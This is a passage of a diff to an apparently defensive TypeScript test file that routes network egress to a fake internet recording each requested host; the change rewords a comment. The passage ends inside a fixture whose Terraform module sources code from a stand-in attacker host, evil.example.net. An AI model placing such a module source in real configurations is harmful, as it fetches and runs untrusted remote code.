@@ -8,7 +8,7 @@ import { buildImage } from "../support/oci.ts";
 import { shared } from "../support/shared.ts";
 import { day, type Inputs, messages, openStage, type RunOptions } from "./stage.ts";
 
-// All ways out of the machine lead to an internet without servers: every host that is asked for is noted.
+// All ways out of the machine lead to an internet without servers, which records every requested host.
 
 const MODULES = `
 module "a" { source = "git::https://evil.example.net/x.git" }
